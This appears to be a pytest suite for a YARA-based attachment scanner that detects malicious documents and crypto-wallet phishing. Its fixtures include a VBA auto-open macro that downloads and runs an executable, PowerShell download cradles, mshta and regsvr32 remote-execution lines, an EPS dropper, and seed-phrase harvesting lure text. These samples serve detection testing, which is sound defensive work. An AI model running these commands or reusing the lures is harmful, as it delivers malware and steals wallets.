"""The YARA analyzer: codes, scores, externals, extracted children, timeouts, and the shipped rules."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yara

from coinguard.analyzers.yara_rules import DEFAULT_SCORE, YaraRules, externals_for, match_score
from coinguard.config import Config
from coinguard.findings import Category, Finding, Item
from coinguard.handlers import AnalysisContext
from coinguard.limits import Budget, Limits
from coinguard.rules import EXTERNALS, compile_rules, find_rule_files
from coinguard.scan import Envelope, ScanContext, scan_message

from helpers import DATA, REPO, make_context, make_message, manifest, read_corpus_sample

ANALYZER = YaraRules()

VBA_DROPPER = b"""Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim url As String
    url = "http://203.0.113.9/update.exe"
    URLDownloadToFile 0, url, Environ("TEMP") & "\\u.exe", 0, 0
    Shell Environ("TEMP") & "\\u.exe", vbHide
End Sub
"""


@cache
def repo_rules() -> Any:
    return compile_rules(Config().rules.dirs).rules


def rules_from(tmp_path: Path, text: str) -> Any:
    (tmp_path / "r.yar").write_text(text, encoding="utf-8")
    return compile_rules([str(tmp_path)]).rules


def eicar() -> bytes:
    with zipfile.ZipFile(DATA / "eicar.com.zip") as zf:  # kept encrypted so scanners leave the repo alone
        return zf.read("eicar.com", pwd=b"infected")


def item(data: bytes, name: str = "file.bin", type: str = "binary", role: str = "attachment") -> Item:
    return Item(path=name, name=name, data=data, type=type, role=role)


def run(it: Item, rules: Any = None, ctx: AnalysisContext | None = None) -> list[Finding]:
    ctx = ctx or make_context(rules=repo_rules() if rules is None else rules)
    out = list(ANALYZER.handle(it, ctx))
    assert all(isinstance(f, Finding) for f in out)
    return [f for f in out if isinstance(f, Finding)]


def codes(findings: list[Finding]) -> set[str]:
    return {f.code for f in findings}


# -- matches, codes and scores ---------------------------------------------------


def test_eicar_matches_with_code_score_and_path() -> None:
    findings = run(item(eicar(), "eicar.com"))
    assert findings == [
        Finding("yara.coinguard_eicar_test_file", "yara", "eicar.com", "EICAR anti-virus test string ($eicar)", 20.0)
    ]


def test_no_rules_means_no_findings() -> None:
    assert run(item(eicar()), ctx=make_context(rules=None)) == []


def test_clean_bytes_give_nothing() -> None:
    assert run(item(b"Dear Bob, the minutes of Tuesday's meeting are attached.", "notes.txt", "text")) == []


def test_match_in_an_extracted_child_item() -> None:
    doc = item(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "invoice.doc", "ole.doc")
    assert run(doc) == []
    child = doc.child("<vba ThisDocument>", VBA_DROPPER, source="office", role="extracted", type="text")
    findings = run(child)
    assert {(f.code, f.path, f.score) for f in findings} == {
        ("yara.coinguard_vba_autoexec_download_execute", "invoice.doc/<vba ThisDocument>", 15.0)
    }


def test_rule_without_score_gets_the_default_and_string_ids_in_detail(tmp_path: Path) -> None:
    rules = rules_from(
        tmp_path,
        'rule admin_rule { meta: description = "admin test" strings: $one = "alpha" $two = "beta"'
        " condition: all of them }",
    )
    (f,) = run(item(b"alpha beta"), rules)
    assert (f.code, f.score, f.detail) == ("yara.admin_rule", DEFAULT_SCORE, "admin test ($one, $two)")


def test_thirdparty_scores_and_author_attribution(tmp_path: Path) -> None:
    vendor = tmp_path / "thirdparty" / "signature-base"
    vendor.mkdir(parents=True)
    (vendor / "v.yar").write_text(
        'rule thor_scored { meta: author = "Florian Roth" score = 60 strings: $a = "zeta" condition: $a }\n'
        'rule unscored { meta: author = "Someone" strings: $a = "zeta" condition: $a }\n',
        encoding="utf-8",
    )
    rules = compile_rules([str(tmp_path)]).rules
    by_code = {f.code: f for f in run(item(b"zeta"), rules)}
    assert by_code["yara.thor_scored"].score == 12.0  # THOR 60 / 5
    assert by_code["yara.unscored"].score == 10.0  # signature-base default
    assert by_code["yara.thor_scored"].detail.endswith("[rule by Florian Roth]")


@pytest.mark.parametrize(
    ("namespace", "rule", "meta", "score"),
    [
        ("coinguard_x", "r", {"score": 7}, 7.0),
        ("coinguard_x", "r", {}, DEFAULT_SCORE),
        ("coinguard_x", "r", {"score": "high"}, DEFAULT_SCORE),
        ("thirdparty/yara-rules/maldocs/Maldoc_PDF", "suspicious_js", {}, 3.0),
        ("thirdparty/yara-rules/maldocs/Maldoc_DDE", "Contains_DDE_Protocol", {}, 8.0),
        ("thirdparty/yara-rules/maldocs/Maldoc_VBA_macro_code", "Contains_VBA_macro_code", {}, 1.0),
        ("thirdparty/signature-base/x", "r", {"score": 100}, 15.0),
        ("thirdparty/signature-base/x", "r", {"score": 5}, 2.0),
        ("thirdparty/inquest/x", "r", {}, 8.0),
        ("thirdparty/reversinglabs/x", "r", {}, 15.0),
        ("thirdparty/newvendor/x", "r", {}, 6.0),
        ("1:thirdparty/inquest/x", "r", {}, 8.0),
    ],
)
def test_match_score(namespace: str, rule: str, meta: dict[str, Any], score: float) -> None:
    assert match_score(namespace, rule, meta) == score


def test_same_rule_name_in_two_files_is_one_finding_with_the_higher_score(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text('rule twin { meta: score = 3 strings: $a = "x" condition: $a }', "utf-8")
    (tmp_path / "b.yar").write_text('rule twin { meta: score = 9 strings: $a = "x" condition: $a }', "utf-8")
    rules = compile_rules([str(tmp_path)]).rules
    assert [(f.code, f.score) for f in run(item(b"x"), rules)] == [("yara.twin", 9.0)]


# -- externals ---------------------------------------------------------------------


def test_externals_come_from_the_item() -> None:
    it = Item(path="a.zip/Invoice.PDF.exe", name="Invoice.PDF.exe", data=b"MZ", type="pe", role="member")
    assert externals_for(it) == {
        "filename": "Invoice.PDF.exe",
        "extension": ".exe",
        "filepath": "a.zip/Invoice.PDF.exe",
        "filetype": "pe",
        "owner": "",
        "role": "member",
    }
    assert set(externals_for(it)) == set(EXTERNALS)


def test_rule_using_filename_and_filetype(tmp_path: Path) -> None:
    rules = rules_from(
        tmp_path,
        'rule doc_named_exe { meta: description = "x" score = 9'
        ' condition: filename matches /\\.(pdf|docx?)\\.exe$/i and filetype == "pe" and extension == ".exe" }',
    )
    assert codes(run(item(b"MZ..", "wallet.pdf.exe", "pe"), rules)) == {"yara.doc_named_exe"}
    assert run(item(b"MZ..", "setup.exe", "pe"), rules) == []
    assert run(item(b"MZ..", "wallet.pdf.exe", "binary"), rules) == []


def test_same_bytes_are_scanned_once_per_message_but_reported_per_path() -> None:
    calls = []

    class CountingRules:
        def match(self, **kw: Any) -> Any:
            calls.append(kw["externals"]["filepath"])
            return repo_rules().match(**kw)

    ctx = make_context(rules=CountingRules())
    first = Item(path="a.zip/eicar.com", name="eicar.com", data=eicar(), type="text", role="member")
    second = Item(path="b.zip/eicar.com", name="eicar.com", data=eicar(), type="text", role="member")
    found = [f.path for it in (first, second) for f in ANALYZER.handle(it, ctx) if isinstance(f, Finding)]
    assert found == ["a.zip/eicar.com", "b.zip/eicar.com"]
    assert calls == ["a.zip/eicar.com"]
    run(first, ctx=make_context(rules=CountingRules()))  # a new message scans again
    assert len(calls) == 2


# -- timeouts and errors ---------------------------------------------------------------


def test_timeout_is_a_finding(tmp_path: Path) -> None:
    rules = rules_from(tmp_path, "rule slow { condition: for any i in (1..100000000) : ( i == 0 ) }")
    ctx = AnalysisContext(config=Config(), budget=Budget(Limits(yara_timeout_s=1)), rules=rules)
    findings = run(item(b"\x00" * 100, "big.bin"), ctx=ctx)
    assert [(f.code, f.path, f.score) for f in findings] == [("yara.timeout", "big.bin", None)]


def test_yara_error_is_a_finding() -> None:
    class BrokenRules:
        def match(self, **kw: Any) -> Any:
            raise yara.Error("could not map file")

    findings = run(item(b"data", "x.bin"), ctx=make_context(rules=BrokenRules()))
    assert [(f.code, f.detail) for f in findings] == [("yara.error", "could not map file")]


def test_catalogue_entries() -> None:
    by_code = {c.code: c for c in ANALYZER.codes}
    assert {"yara.match", "yara.timeout", "yara.error"} <= set(by_code)
    assert by_code["yara.match"].category is Category.ATTACHMENT
    assert by_code["yara.timeout"].category is Category.INTERNAL


def test_theme_catalogue_entries_match_the_lure_rules() -> None:
    """Every rule with meta category = "theme" has a THEME catalogue entry with its score, and no other."""
    theme: dict[str, float] = {}
    for f in find_rule_files([str(REPO / "rules")]):
        if f.namespace.startswith("thirdparty/"):
            continue
        for rule in yara.compile(filepath=f.path, externals=EXTERNALS):
            if rule.meta.get("category") == "theme":
                theme[f"yara.{rule.identifier}"] = float(rule.meta["score"])
    catalogued = {c.code: c.score for c in ANALYZER.codes if c.category is Category.THEME}
    assert theme and catalogued == theme


# -- the shipped rules on crafted content ---------------------------------------------------

KOREAN_LURE = "[업비트] 고객님의 지갑 보안 인증이 필요합니다. 인증을 완료하지 않으면 출금이 제한됩니다."
ENGLISH_HARVEST = (
    "MetaMask wallet verification required. To restore access, enter your 12-word secret recovery phrase below."
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "cp949"])
def test_korean_lure_text_matches_in_documents(encoding: str) -> None:
    found = run(item(KOREAN_LURE.encode(encoding), "안내.hwp", "text", role="text"))
    assert [(f.code, f.score) for f in found] == [("yara.coinguard_lure_crypto_ko", 2.0)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le"])
def test_seed_phrase_harvesting_text_matches(encoding: str) -> None:
    found = codes(run(item(ENGLISH_HARVEST.encode(encoding), "form.html", "html")))
    assert found == {"yara.coinguard_harvest_seed_phrase", "yara.coinguard_lure_crypto_en"}


def test_korean_seed_phrase_request_in_utf16() -> None:
    text = "지갑 복구를 위해 12개 단어 복구 구문을 입력하세요".encode("utf-16-le")
    assert "yara.coinguard_harvest_seed_phrase" in codes(run(item(text, "Section0", "binary", role="extracted")))


def test_lure_rules_leave_the_message_body_to_the_theme_analyzer() -> None:
    assert run(item(KOREAN_LURE.encode(), "", "text", role="body")) == []
    assert run(item(ENGLISH_HARVEST.encode(), "", "html", role="body")) == []


def test_everyday_crypto_mentions_do_not_match() -> None:
    text = b"Our quarterly report mentions bitcoin once. Please send the invoice to accounts payable."
    assert run(item(text, "report.txt", "text", role="text")) == []


LNK_HEADER = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 56


@pytest.mark.parametrize(
    ("args", "code"),
    [
        ("/c start calc.exe", "yara.coinguard_lnk_interpreter"),
        ("-w hidden -c iwr http://198.51.100.7/a.ps1 | iex", "yara.coinguard_lnk_interpreter_payload"),
    ],
)
def test_lnk_running_an_interpreter(args: str, code: str) -> None:
    target = "C:\\Windows\\System32\\cmd.exe" if args.startswith("/c") else "powershell.exe"
    data = LNK_HEADER + (target + " " + args).encode("utf-16-le")
    assert code in codes(run(item(data, "invoice.pdf.lnk", "lnk")))


def test_lnk_to_a_document_does_not_match() -> None:
    data = LNK_HEADER + "C:\\Users\\kim\\Documents\\report.hwp".encode("utf-16-le")
    assert run(item(data, "report.lnk", "lnk")) == []


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (
            b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
            "yara.coinguard_powershell_download_cradle",
        ),
        (
            b"powershell.exe -NoP -NonI -W Hidden -Enc JABXAEMAPQBOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0A",
            "yara.coinguard_powershell_encoded_command",
        ),
        (b'<a href="#" onclick="x">mshta https://203.0.113.5/p.hta</a>', "yara.coinguard_mshta_remote"),
        (b"certutil -decode payload.b64 payload.exe", "yara.coinguard_certutil_decode_download"),
        (b"regsvr32 /s /n /u /i:http://203.0.113.5/f.sct scrobj.dll", "yara.coinguard_lolbin_remote_execution"),
    ],
)
def test_dropper_command_lines(text: bytes, code: str) -> None:
    assert code in codes(run(item(text, "run.bat", "script.bat")))


def test_eps_dropper() -> None:
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n/p (C:\\\\Users\\\\a.vbs) def\np (w) file dup (WScript.Shell) writestring\n"
    assert codes(run(item(eps, "BIN0001.eps", "binary", role="extracted"))) == {"yara.coinguard_eps_dropper"}


def test_ordinary_eps_does_not_match() -> None:
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 10 10 moveto 90 90 lineto stroke\nshowpage\n"
    assert run(item(eps, "logo.eps", "binary")) == []


# -- real samples (../shared/corpus) --------------------------------------------------------

#: Our rules that mean "attachment evidence"; the lure/harvest (THEME) rules may fire on phishing.
THEME_CODES = {c.code for c in ANALYZER.codes if c.category is Category.THEME}


@cache
def _scan_ctx() -> ScanContext:
    cfg = Config()
    return ScanContext(config=cfg, rules=repo_rules())


def _yara_findings(raw: bytes, label: str) -> list[Finding]:
    verdict = scan_message(
        raw, ScanContext(config=_scan_ctx().config, rules=_scan_ctx().rules, envelope=Envelope(id=label))
    )
    return [f for f in verdict.findings if f.analyzer == "yara"]


def _benign_messages() -> Iterator[tuple[str, bytes]]:
    for row in manifest():
        path = row["path"]
        if row["expected"] != "benign":
            continue
        data = read_corpus_sample(path)
        if path.startswith("benign/attachments/"):
            yield path, make_message(subject="Documents", attachments=[(Path(path).name, data)])
        elif path.endswith((".eml", ".msg")):
            yield path, data


@pytest.mark.corpus
def test_benign_corpus_has_no_attachment_rule_matches(monkeypatch: pytest.MonkeyPatch) -> None:
    # The whole pipeline (mime, unpackers, document analyzers that emit decoded children), minus the
    # theme analyzers, which only add THEME findings and cost most of the time on text.
    from coinguard import scan

    not_theme = tuple(a for a in scan.ITEM_ANALYZERS if any(c.category is not Category.THEME for c in a.codes))
    monkeypatch.setattr(scan, "ITEM_ANALYZERS", not_theme)
    monkeypatch.setattr(scan, "MESSAGE_ANALYZERS", ())
    assert any(isinstance(a, YaraRules) for a in not_theme)
    hits = [
        (label, f.code, f.path)
        for label, raw in _benign_messages()
        for f in _yara_findings(raw, label)
        if f.code not in THEME_CODES
    ]
    assert hits == []


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("sample", "name", "code"),
    [
        ("maldocs/eicar/eicar.com.zip", "eicar.com", "yara.coinguard_eicar_test_file"),
        ("maldocs/pyhwpscan/mal_sample.hwp.zip", "statement.hwp", "yara.coinguard_eps_dropper"),
        ("maldocs/inquest/system.lnk.zip", "system.lnk", "yara.coinguard_lnk_interpreter_payload"),
        ("maldocs/strelka/test.vba.zip", "test.vba", "yara.coinguard_vba_autoexec_download_execute"),
    ],
)
def test_corpus_samples_fire_our_rules(sample: str, name: str, code: str) -> None:
    raw = make_message(subject="Documents", attachments=[(name, read_corpus_sample(sample))])
    assert code in {f.code for f in _yara_findings(raw, sample)}
